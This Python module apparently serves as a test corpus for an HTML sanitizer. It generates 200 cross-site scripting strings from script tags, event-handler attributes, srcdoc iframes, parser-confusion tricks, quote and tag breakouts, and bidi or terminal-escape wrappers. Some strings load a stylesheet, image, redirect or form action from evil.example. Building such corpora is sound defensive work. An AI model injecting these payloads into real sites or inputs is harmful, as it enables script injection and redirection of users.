"""Two hundred texts that would act as markup: each sets `window.hit` or asks elsewhere."""

from __future__ import annotations

from typing import Final

_ACTS: Final = (
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<a href='javascript:window.hit=1' autofocus onfocus=window.hit=1>x</a>",
    "<details open ontoggle=window.hit=1>",
    "<input autofocus onfocus=window.hit=1>",
    "<body onload=window.hit=1>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<img src=http://evil.example/x.png>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/><button autofocus>x</button></form>",
    "<object data=http://evil.example/x.swf></object>",
    "<math><mtext><script>window.hit=1</script></mtext></math>",
    "<template><script>window.hit=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "<!--><script>window.hit=1</script>-->",
)
_WRAPS: Final = (
    "{}",
    '"{}',
    "'{}",
    '">{}',
    "'>{}",
    "</title>{}",
    "</textarea>{}",
    "\x1b]8;;javascript:window.hit=1\x07{}\x1b]8;;\x07",
    "\u202e{}\u2066",
    "&lt;{}",
)
PAYLOADS: Final = tuple(wrap.format(act) for act in _ACTS for wrap in _WRAPS)
